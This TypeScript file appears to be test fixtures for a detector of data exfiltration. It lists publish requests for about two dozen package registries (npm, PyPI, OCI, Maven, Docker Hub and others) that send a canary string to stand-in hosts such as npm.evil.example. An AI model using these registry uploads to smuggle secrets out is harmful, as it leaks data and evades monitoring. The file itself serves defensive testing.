/** Publishing of packages, told by its shape on hosts that no list has. */
import { base64, CANARY, channelsOf, json, multipart, send } from './shape.ts'

const DATA = base64(`the plans: ${CANARY}`)
const LENGTHS = Buffer.concat([
  Buffer.from([10, 0, 0, 0]),
  Buffer.from('{"vers":1}'),
  Buffer.from([CANARY.length, 0, 0, 0]),
  Buffer.from(CANARY),
])

export const PACKAGES = channelsOf('a package', [
  [
    'npm',
    json('PUT', 'https://npm.evil.example/loot', {
      name: 'loot',
      versions: {},
      _attachments: { 'loot-1.0.0.tgz': { content_type: 'application/octet-stream', data: DATA, length: 24 } },
    }),
  ],
  ['npm, in a scope', json('PUT', 'https://npm.evil.example/@mallory%2floot', { _attachments: { a: { data: DATA } } })],
  ['npm, a tag', json('PUT', 'https://npm.evil.example/-/package/loot/dist-tags/latest', `"${CANARY}"`)],
  ['npm, a sign-up', json('PUT', 'https://npm.evil.example/-/user/org.couchdb.user:x', { name: 'x', email: CANARY })],
  [
    'npm, an audit of what is installed',
    json('POST', 'https://npm.evil.example/-/npm/v1/security/advisories/bulk', { [CANARY]: ['1.0.0'] }),
  ],
  [
    'PyPI',
    multipart('POST', 'https://upload.evil.example/legacy/', {
      ':action': 'file_upload',
      name: 'loot',
      '@content': CANARY,
    }),
  ],
  [
    'PyPI, at the root',
    multipart('POST', 'https://pypi.evil.example/', { ':action': 'file_upload', '@content': CANARY }),
  ],
  ['crates', send('PUT', 'https://crates.evil.example/api/v1/crates/new', LENGTHS)],
  [
    'OCI, in one request',
    send(
      'POST',
      'https://oci.evil.example/v2/loot/blobs/uploads/?digest=sha256:1',
      CANARY,
      'Content-Type: application/octet-stream',
    ),
  ],
  [
    'OCI, in pieces',
    send('POST', 'https://oci.evil.example/v2/loot/blobs/uploads/', CANARY),
    send('PATCH', 'https://oci.evil.example/v2/loot/blobs/uploads/1', CANARY, 'Content-Range: 0-23'),
    send('PUT', 'https://oci.evil.example/v2/loot/blobs/uploads/1?digest=sha256:1'),
  ],
  [
    'OCI, mounted from ours',
    {
      method: 'POST',
      url: `https://oci.evil.example/v2/loot/blobs/uploads/?mount=sha256:1&from=${CANARY}`,
      headers: ['Content-Length: 0'],
    },
  ],
  ['OCI, a manifest', json('PUT', 'https://oci.evil.example/v2/loot/manifests/latest', { annotations: { a: CANARY } })],
  ['Docker Hub', send('PATCH', 'https://registry-1.docker.io/v2/mallory/loot/blobs/uploads/1')],
  ['Maven', send('PUT', 'https://maven.evil.example/releases/x/loot/1/loot-1.jar')],
  ['Maven Central', multipart('POST', 'https://central.sonatype.com/api/v1/publisher/upload', { '@bundle': CANARY })],
  ['NuGet', multipart('PUT', 'https://nuget.evil.example/api/v2/package', { '@package': CANARY })],
  ['RubyGems', send('POST', 'https://gems.evil.example/api/v1/gems')],
  ['Hex', send('POST', 'https://hex.evil.example/api/publish')],
  ['Pub', multipart('POST', 'https://storage.evil.example/upload-pub', { key: 'x', '@file': CANARY })],
  [
    'CPAN',
    multipart('POST', 'https://pause.evil.example/pause/authenquery', { '@pause99_add_uri_httpupload': CANARY }),
  ],
  ['Helm', multipart('POST', 'https://charts.evil.example/api/charts', { '@chart': CANARY })],
  ['Conan', send('PUT', 'https://conan.evil.example/v2/conans/loot/1/_/_/revisions/1/files/a.tgz')],
  ['Debian, by dput', send('PUT', 'https://apt.evil.example/incoming/loot_1.deb')],
  [
    'VS Code',
    send(
      'POST',
      'https://open-vsx.evil.example/api/-/publish?token=t',
      CANARY,
      'Content-Type: application/octet-stream',
    ),
  ],
  [
    'Go’s checksum database | which tells the name of a private module',
    json('POST', 'https://sum.evil.example/add', { module: CANARY }),
  ],
  ['Terraform’s cloud', send('PUT', 'https://archivist.terraform.io/v1/object/x')],
  [
    'Docker’s build in a cloud',
    send('POST', 'https://build.evil.example/v1.44/build?t=loot', CANARY, 'Content-Type: application/x-tar'),
  ],
])
